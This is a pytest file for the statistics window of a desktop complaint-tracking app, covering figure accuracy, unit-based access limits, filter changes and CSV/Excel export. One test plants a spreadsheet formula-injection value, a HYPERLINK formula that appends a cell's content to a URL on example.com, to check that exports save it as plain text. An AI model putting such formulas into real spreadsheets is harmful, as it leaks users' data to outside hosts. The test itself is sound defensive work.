"""The statistics window (desktop/ui/stats), on the embedded database and through a real ``aduan server``: the
numbers it shows are those ``desktop.reports.figures`` counts for the same filter and asker; a supervisor sees
her units only and a unit outside them is refused in words; changing a filter asks again; a table is saved
to CSV as shown; an officer gets the figures of the reports they handled; the menu offers it to everyone.

No figure here depends on today: the reports are received at fixed moments of March 2026 and the window is
asked for that month. The backlog's ages and the running deadlines are judged "now" by the server: the
reference is counted just before and just after the window's answer, and the window shows one of the two
(a day that ends in between changes an age band, not the test's verdict).
"""

from __future__ import annotations

import csv
import random
from collections import Counter
from collections.abc import Iterator
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtWidgets import QPushButton, QTableWidget
from pytestqt.qtbot import QtBot
from sqlalchemy import Connection

from desktop.domain.status import Status
from desktop.domain.vocabulary import Role
from desktop.reports import figures
from desktop.security.credentials import MemoryCredentials
from desktop.settings import Settings
from desktop.store.clock import server_now
from desktop.store.identity import load_actor
from desktop.store.service import Store
from desktop.sync.session import Session
from desktop.ui.errors import describe
from desktop.ui.labels import status_label
from desktop.ui.main_window import MainWindow
from desktop.ui.ops import Ops
from desktop.ui.stats.requests import Figures, Wanted
from desktop.ui.stats.tables import number, shown_rows
from desktop.ui.stats.window import StatsWindow
from tests.reports.helpers import received_at, walk
from tests.store.helpers import add_officer_without_login
from tests.ui.conftest import session_for
from tests.ui.server_world import Served, served_world, signed_in

TIMEOUT = 20_000
MARCH = (date(2026, 3, 1), date(2026, 3, 31))
START = datetime(2026, 3, 1, 1, 0)  # naive UTC: 08.00 WIB


def receive_march(url: str) -> None:
    """Reports received in March 2026 in each unit, some verified, followed up, finished or archived by the
    officers of the test organisation (ani and budi in humas, sari in kanreg, rudi in kanreg-1)."""
    rng = random.Random(18)
    stores = {login: Store(url, login) for login in ("ani", "budi", "sari", "rudi")}
    makers = {"humas": ["ani", "budi"], "kanreg": ["sari"], "kanreg-1": ["rudi"]}
    try:
        for _ in range(24):
            unit_code = rng.choice(list(makers))
            store = stores[rng.choice(makers[unit_code])]
            at = START + timedelta(minutes=rng.randrange(29 * 24 * 60))
            made = received_at(store, at, unit_code, rng)
            fate = rng.random()
            if fate < 0.25:
                walk(store, made.id, Status.DIVERIFIKASI)
            elif fate < 0.45:
                walk(store, made.id, Status.DIVERIFIKASI, Status.DITINDAKLANJUTI, Status.SELESAI)
            elif fate < 0.55:
                walk(store, made.id, Status.DIARSIPKAN)
    finally:
        for store in stores.values():
            store.dispose()


def reference(url: str, login: str, wanted: Wanted) -> Figures:
    """What ``desktop.reports.figures`` counts for ``login`` and the window's filter, as of now."""
    store = Store(url)

    def read(conn: Connection) -> Figures:
        asked = figures.StatsFilter(
            wanted.since, wanted.until, wanted.units, wanted.channel, wanted.kind, wanted.category
        )
        scope = figures.scope_for(conn, load_actor(conn, login), asked)
        now = server_now(conn)
        return Figures(
            figures.volumes(conn, scope, wanted.by, wanted.split),  # type: ignore[arg-type]
            figures.backlog(conn, scope, now),
            figures.service_levels(conn, scope, now),
            [label for label, _first, _last in figures.AGE_BANDS],
        )

    try:
        return store.read(read)
    finally:
        store.dispose()


def column(table: QTableWidget, index: int) -> list[str]:
    return [row[index] for row in shown_rows(table)[1:]]


def opened(qtbot: QtBot, session: Session, ops: Ops) -> StatsWindow:
    window = StatsWindow(session, ops, today=date(2026, 4, 15))
    qtbot.addWidget(window)
    window.show()
    window.start()
    qtbot.waitUntil(lambda: window.answered > 0 or window.failed, timeout=TIMEOUT)
    assert not window.failed, window.status.text()
    return window


def answer(qtbot: QtBot, window: StatsWindow, change: Any = None) -> None:
    """Wait for the answer to the filter as it is after ``change`` (a filter change asks once it settles)."""
    before = window.answered
    if change is not None:
        change()
    qtbot.waitUntil(lambda: window.answered > before or window.failed, timeout=TIMEOUT)
    assert not window.failed, window.status.text()


def march(qtbot: QtBot, window: StatsWindow) -> None:
    answer(qtbot, window, lambda: window.filters.set_period(*MARCH))
    assert window.shown_for is not None and (window.shown_for.since, window.shown_for.until) == MARCH


def shown_is(window: StatsWindow, url: str, login: str) -> Figures:
    """The window's answer and what it shows are the reference's, counted before or after it."""
    wanted = window.shown_for
    assert wanted is not None and window.figures is not None
    before_after = [reference(url, login, wanted)]
    if window.figures != before_after[0]:
        before_after.append(reference(url, login, wanted))
    assert window.figures in before_after
    expected = window.figures
    # The chart: one bar per period, one part per value of the split, each the server's count.
    periods = sorted({r.period for r in expected.volumes})
    assert window.chart.periods == [window.period_label(p, wanted.by) for p in periods]
    parts: dict[str, list[int]] = {}
    for r in expected.volumes:
        parts.setdefault(window.key_label(wanted.split, r.key), [0] * len(periods))[periods.index(r.period)] = r.count
    assert window.chart.parts == parts
    assert {s.label(): [int(s.at(i)) for i in range(s.count())] for s in window.chart.bar_sets} == parts
    # The backlog: each status's line, a count per age band.
    table = window.backlog_table
    rows = {row[0]: row[1:] for row in shown_rows(table)[1:]}
    for b in expected.backlog:
        assert rows[status_label(Status(b.status))][expected.bands.index(b.band)] == str(b.count)
    assert sum(int(cells[-1]) for label, cells in rows.items() if label != "Total") == sum(
        r.count for r in expected.backlog
    )
    # Service levels: per unit and officer, received, met, breached and running of both clocks.
    lines = shown_rows(window.service_table)[1:]
    assert len(lines) == len(expected.service)
    for line, s in zip(lines, expected.service, strict=True):
        assert line[1] == (s.officer or "(unit total)")
        assert line[2:6] == [str(s.received), str(s.first_response.met), str(s.first_response.breached),
                             str(s.first_response.running)]  # fmt: skip
        assert line[9:12] == [str(s.resolution.met), str(s.resolution.breached), str(s.resolution.running)]
    return expected


# -- on the embedded database -----------------------------------------------------------------------------


@pytest.fixture
def world(org_url: str) -> str:
    owner = Store(org_url)
    owner.admin(add_officer_without_login, "adi", "Adi Nugroho", ["humas"], Role.ADMIN)
    owner.dispose()
    receive_march(org_url)
    return org_url


@pytest.fixture
def adi(world: str, tmp_path: Path) -> Iterator[Session]:
    session = session_for(world, "adi", tmp_path)
    yield session
    session.close()


@pytest.fixture
def ani(world: str, tmp_path: Path) -> Iterator[Session]:
    session = session_for(world, "ani", tmp_path)
    yield session
    session.close()


def test_an_admin_sees_every_units_figures_as_the_query_layer_counts_them(
    qtbot: QtBot, adi: Session, ops: Ops, world: str
) -> None:
    window = opened(qtbot, adi, ops)
    march(qtbot, window)
    shown = shown_is(window, world, "adi")
    assert sum(r.count for r in shown.volumes) == 24  # every report of March, in every unit
    assert shown.backlog and shown.service and any(r.officer for r in shown.service)  # something to compare
    assert {r.key for r in shown.volumes} <= {"email", "whatsapp", "web", "lapor"}  # split by channel first
    assert window.filters.unit.codes_shown() == ["humas", "kanreg", "kanreg-1"]  # every unit offered
    assert "(unit total)" in column(window.service_table, 1)


def test_changing_a_filter_asks_again_and_shows_the_new_answer(
    qtbot: QtBot, adi: Session, ops: Ops, world: str
) -> None:
    window = opened(qtbot, adi, ops)
    march(qtbot, window)
    asked = window.asked
    every = sum(r.count for r in window.figures.volumes) if window.figures else 0
    answer(qtbot, window, lambda: window.filters.split.setCurrentIndex(window.filters.split.findData("unit")))
    assert window.asked == asked + 1
    shown = shown_is(window, world, "adi")
    assert {r.key for r in shown.volumes} == {"humas", "kanreg", "kanreg-1"}
    assert set(window.chart.parts) == {window.unit_names[c] for c in ("humas", "kanreg", "kanreg-1")}  # by name

    answer(qtbot, window, lambda: window.filters.channel.setCurrentIndex(window.filters.channel.findData("email")))
    assert window.shown_for is not None and window.shown_for.channel == "email"
    emailed = shown_is(window, world, "adi")
    assert sum(r.count for r in emailed.volumes) < every

    def one_unit() -> None:
        window.filters.all_units.setChecked(False)
        window.filters.unit.set_current_code("kanreg")

    answer(qtbot, window, one_unit)
    qtbot.waitUntil(lambda: window.shown_for is not None and window.shown_for.units == ("kanreg",), timeout=TIMEOUT)
    in_kanreg = shown_is(window, world, "adi")
    assert {r.key for r in in_kanreg.volumes} <= {"kanreg", "kanreg-1"}  # with the unit below it

    answer(qtbot, window, lambda: window.filters.by.setCurrentIndex(window.filters.by.findData("month")))
    by_month = shown_is(window, world, "adi")
    assert {r.period for r in by_month.volumes} <= {date(2026, 3, 1)}

    # The categories offered are those of the reports this computer holds; choosing one narrows every figure.
    categories = [window.filters.category.itemData(i) for i in range(window.filters.category.count())]
    assert categories == [None, "air bersih", "jalan"]
    answer(qtbot, window, lambda: window.filters.channel.setCurrentIndex(0))  # every channel
    answer(qtbot, window, lambda: window.filters.all_units.setChecked(True))
    every = sum(r.count for r in shown_is(window, world, "adi").volumes)
    answer(qtbot, window, lambda: window.filters.category.setCurrentIndex(window.filters.category.findData("jalan")))
    assert window.shown_for is not None and window.shown_for.category == "jalan"
    on_roads = shown_is(window, world, "adi")
    assert 0 < sum(r.count for r in on_roads.volumes) < every


def test_a_table_is_saved_to_csv_as_it_is_shown(qtbot: QtBot, adi: Session, ops: Ops, tmp_path: Path) -> None:
    window = opened(qtbot, adi, ops)
    march(qtbot, window)
    for table in (window.backlog_table, window.service_table, window.volume_table):
        target = tmp_path / f"{table.objectName()}.csv"
        window.export_to(table, target)
        assert not window.failed and str(target) in window.status.text()
        raw = target.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 by its byte-order mark
        with target.open(encoding="utf-8-sig", newline="") as read:
            written = list(csv.reader(read))
        assert written == shown_rows(table) and len(written) == table.rowCount() + 1 > 1
        assert window.exported == table.rowCount()
    window.export_to(window.backlog_table, tmp_path / "no-such-folder" / "x.csv")
    assert window.failed and "could not be written" in window.status.text()


def test_every_table_is_saved_to_a_workbook_with_its_figures_as_numbers(
    qtbot: QtBot, adi: Session, ops: Ops, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    window = opened(qtbot, adi, ops)
    march(qtbot, window)
    behaviour = window.behaviour
    buttons = ["statsBacklogExport", "statsServiceExport", "statsVolumeExport", "statsTopicsExport"]
    buttons += ["statsHeatExport", "statsFlowsTableExport", "statsReopenTableExport", "statsReturningTableExport"]
    for button in buttons:  # every table has its save button
        assert window.findChild(QPushButton, button) is not None, button
    # The backlog: its statuses as text, its counts (and their sums) as numbers.
    target = tmp_path / "backlog.xlsx"
    window.export_to(window.backlog_table, target)
    assert not window.failed and window.exported == window.backlog_table.rowCount() > 1
    sheet = load_workbook(target).active
    assert sheet is not None
    read = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert read[0][0] == window.backlog_table.accessibleName()
    shown = shown_rows(window.backlog_table)
    assert [str(h or "") for h in read[1]] == shown[0]
    for cells, texts in zip(read[2:], shown[1:], strict=True):
        assert cells[0] == texts[0]
        for value, text in zip(cells[1:], texts[1:], strict=True):
            assert (value is None and text in ("", "–")) or (isinstance(value, int) and number(value) == text)
    # The heat map keeps its weekdays as the first column.
    window.export_to(behaviour.heatmap, tmp_path / "heat.xlsx")
    heat = load_workbook(tmp_path / "heat.xlsx").active
    assert heat is not None
    weekdays = [row[0] for row in heat.iter_rows(min_row=3, values_only=True)]
    assert weekdays == [behaviour.heatmap.verticalHeaderItem(r).text() for r in range(7)]  # type: ignore[union-attr]


def test_a_cell_a_spreadsheet_would_take_for_a_formula_is_saved_as_text(
    qtbot: QtBot, adi: Session, ops: Ops, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    window = opened(qtbot, adi, ops)
    march(qtbot, window)
    table = window.backlog_table
    cell = table.item(0, 0)
    assert cell is not None
    cell.setText('=HYPERLINK("http://example.com/?"&A2)')
    window.export_to(table, tmp_path / "x.csv")
    with (tmp_path / "x.csv").open(encoding="utf-8-sig", newline="") as read:
        assert list(csv.reader(read))[1][0] == "'" + cell.text()
    window.export_to(table, tmp_path / "x.xlsx")
    sheet = load_workbook(tmp_path / "x.xlsx").active
    assert sheet is not None
    written = sheet.cell(row=3, column=1)
    assert written.data_type == "s" and written.value == cell.text() and written.quotePrefix


def test_an_officer_gets_the_figures_of_the_reports_they_handled(
    qtbot: QtBot, ani: Session, ops: Ops, world: str
) -> None:
    window = opened(qtbot, ani, ops)
    march(qtbot, window)
    own = shown_is(window, world, "ani")
    every = reference(world, "adi", window.shown_for or Wanted())
    assert 0 < sum(r.count for r in own.volumes) < sum(r.count for r in every.volumes)
    assert window.filters.unit.codes_shown() == ["humas"]  # her own unit only
    assert {line[1] for line in shown_rows(window.service_table)[1:]} <= {"(unit total)", "ani"}


def test_the_menu_offers_statistics_to_every_officer(qtbot: QtBot, ani: Session, ops: Ops, tmp_path: Path) -> None:
    settings = Settings(policy_path=tmp_path / "no-policy.json", user_path=tmp_path / "settings.json")
    window = MainWindow(ani, ops, settings, MemoryCredentials())
    qtbot.addWidget(window)
    try:
        assert window.statistics_action.isVisible()
        window.statistics_action.trigger()
        qtbot.waitUntil(lambda: window.stats_window is not None, timeout=TIMEOUT)
        stats = window.stats_window
        assert isinstance(stats, StatsWindow)
        qtbot.waitUntil(lambda: stats.answered > 0 or stats.failed, timeout=TIMEOUT)
        assert not stats.failed, stats.status.text()
        window.statistics_action.trigger()  # the same window, brought back
        assert window.stats_window is stats
        stats.reject()
        qtbot.waitUntil(lambda: window.stats_window is None, timeout=TIMEOUT)
    finally:
        window.sync.stop()
        window.close()


# -- through the server -----------------------------------------------------------------------------------


@pytest.fixture
def served(org_url: str, tmp_path: Path) -> Iterator[Served]:
    yield from served_world(org_url, tmp_path, lambda owner: receive_march(org_url))


def test_through_the_server_a_supervisor_sees_her_units_and_is_refused_another(
    qtbot: QtBot, served: Served, ops: Ops, tmp_path: Path
) -> None:
    sari = signed_in(served, "sari", tmp_path)
    try:
        window = opened(qtbot, sari, ops)
        assert window.filters.unit.codes_shown() == ["kanreg", "kanreg-1"]  # her unit and the one below it
        march(qtbot, window)
        answer(qtbot, window, lambda: window.filters.split.setCurrentIndex(window.filters.split.findData("unit")))
        shown = shown_is(window, served.db_url, "sari")
        assert shown.volumes and {r.key for r in shown.volumes} <= {"kanreg", "kanreg-1"}
        assert {row[0] for row in shown_rows(window.service_table)[1:]} <= {
            window.unit_names["kanreg"],
            window.unit_names["kanreg-1"],
        }
        counted = Counter(r.status for r in shown.backlog)
        assert all(status in {s.value for s in Status} for status in counted)

        # A unit outside hers (the picker offers none; a stale list could): refused, said in words.
        window.filters.unit.set_units([("humas", "Biro Humas")])
        before = window.asked

        def humas() -> None:
            window.filters.all_units.setChecked(False)
            window.filters.unit.set_current_code("humas")

        humas()
        qtbot.waitUntil(lambda: window.asked > before and window.failed, timeout=TIMEOUT)
        assert window.last_refusal is not None and window.last_refusal.code == "not_permitted"
        assert window.status.isVisible() and window.status.text() == describe(window.last_refusal)
        assert window.figures is shown or window.figures == shown  # the last figures stay, not half-replaced
    finally:
        sari.close()


def test_through_the_server_an_admin_sees_what_the_query_layer_counts(
    qtbot: QtBot, served: Served, ops: Ops, tmp_path: Path
) -> None:
    adi = signed_in(served, "adi", tmp_path)
    try:
        window = opened(qtbot, adi, ops)
        march(qtbot, window)
        shown = shown_is(window, served.db_url, "adi")
        assert sum(r.count for r in shown.volumes) == 24
        answer(qtbot, window, lambda: window.filters.kind.setCurrentIndex(window.filters.kind.findData("aspirasi")))
        aspirations = shown_is(window, served.db_url, "adi")
        assert sum(r.count for r in aspirations.volumes) < 24
    finally:
        adi.close()
